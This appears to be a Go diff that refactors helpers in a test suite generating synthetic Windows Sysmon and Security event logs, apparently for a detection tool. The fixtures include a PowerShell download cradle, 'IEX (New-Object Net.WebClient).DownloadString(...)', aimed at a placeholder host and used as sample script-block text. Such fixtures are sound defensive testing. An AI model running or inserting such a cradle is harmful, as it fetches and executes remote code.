@@ -110,21 +110,21 @@ func (t *tree) start(file, host string, at time.Time, n int, image, line string,
 
 const session = 0x7030d
 
-func (t *tree) theBrowser(file, host string) {
-	t.start(file, host, begin.Add(-time.Minute), browserNumber, browser, browser, 0, `C:\Windows\explorer.exe`, session)
+func (t *tree) theBrowser() {
+	t.start("sysmon.evtx", computer, begin.Add(-time.Minute), browserNumber, browser, browser, 0, `C:\Windows\explorer.exe`, session)
 }
 
 func saved(i int) string { return fmt.Sprintf(`C:\Users\j.doe\Downloads\setup_%05d.exe`, i) }
 
 func downloads(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	for i := range n {
 		t.sysmon("sysmon.evtx", computer, 11, spread(i, n), browserNumber, browser, evtxtest.Str("TargetFilename", saved(i)))
 	}
 }
 
 func runs(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	for i := range n {
 		at := spread(i, n)
 		t.sysmon("sysmon.evtx", computer, 11, at, browserNumber, browser, evtxtest.Str("TargetFilename", saved(i)))
@@ -133,21 +133,21 @@ func runs(t *tree, n int) {
 }
 
 func children(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	for i := range n {
 		t.start("sysmon.evtx", computer, spread(i, n), 100+i, shell, fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, session)
 	}
 }
 
 func onePID(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	for i := range n {
 		t.start("sysmon.evtx", computer, spread(i, n), 100, shell, fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, session)
 	}
 }
 
 func ancestors(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	for i := range n {
 		parent, image := 99+i, shell
 		if i == 0 {
@@ -158,7 +158,7 @@ func ancestors(t *tree, n int) {
 }
 
 func network(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
 	for i := range n {
 		t.sysmon("sysmon.evtx", computer, 3, spread(i, n), 100, shell, evtxtest.Str("DestinationIp", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250)),
@@ -174,7 +174,7 @@ func (t *tree) script(at time.Time, block, part, total int, text string) {
 }
 
 func scripts(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	t.start("sysmon.evtx", computer, begin, 100, shell, "powershell", browserNumber, browser, session)
 	for i := range n {
 		t.script(spread(i, n), i, 1, 1, fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')", i))
@@ -188,7 +188,7 @@ func parts(t *tree, n int) {
 }
 
 func logons(t *tree, n int) {
-	t.theBrowser("sysmon.evtx", computer)
+	t.theBrowser()
 	for i := range n {
 		at, id := begin.Add(time.Duration(i)*time.Minute), uint64(0x10000+i)
 		t.add("security.evtx", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing", Channel: "Security", Computer: computer, EventID: 4624, Version: 2, Time: at,
